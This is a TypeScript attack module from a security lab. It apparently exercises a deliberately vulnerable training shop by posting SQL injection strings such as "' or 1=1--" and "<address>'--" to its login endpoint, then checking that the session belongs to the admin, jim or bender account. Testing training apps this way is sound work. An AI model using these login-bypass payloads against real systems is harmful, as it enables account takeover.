import type { Attack, Tools } from '#lab'

/** Logs in with this e-mail address and any password, and makes sure whose session it is. */
async function breakIn({ http, expect }: Tools, email: string, owner: string): Promise<void> {
  const answer = await http.post('/rest/user/login', { email, password: 'a' })
  expect(answer.status === 200, `the login answered with ${answer.status}`)
  const { authentication } = answer.json<{ authentication: { umail: string } }>()
  expect(authentication.umail === owner, `the session belongs to ${authentication.umail}`)
}

/** Breaks out of the quotes behind a known address. */
function behindAddress(challenge: string, person: string): Attack[] {
  return [
    {
      challenge,
      name: `${person}@…'-- with any password`,
      run: (tools) => {
        const owner = `${person}@${tools.settings.domain}`
        return breakIn(tools, `${owner}'--`, owner)
      },
    },
    {
      challenge,
      name: `${person}@…' or email=' and no comment sign`,
      run: (tools) => {
        const owner = `${person}@${tools.settings.domain}`
        return breakIn(tools, `${owner}' or email='`, owner)
      },
    },
  ]
}

export const attacks: Attack[] = [
  {
    challenge: 'loginAdminChallenge',
    name: "' or 1=1-- with any password",
    run: (tools) => breakIn(tools, "' or 1=1--", `admin@${tools.settings.domain}`),
  },
  {
    challenge: 'loginAdminChallenge',
    name: "' OR true-- with any password",
    run: (tools) => breakIn(tools, "' OR true--", `admin@${tools.settings.domain}`),
  },
  ...behindAddress('loginAdminChallenge', 'admin'),
  ...behindAddress('loginJimChallenge', 'jim'),
  ...behindAddress('loginBenderChallenge', 'bender'),
]
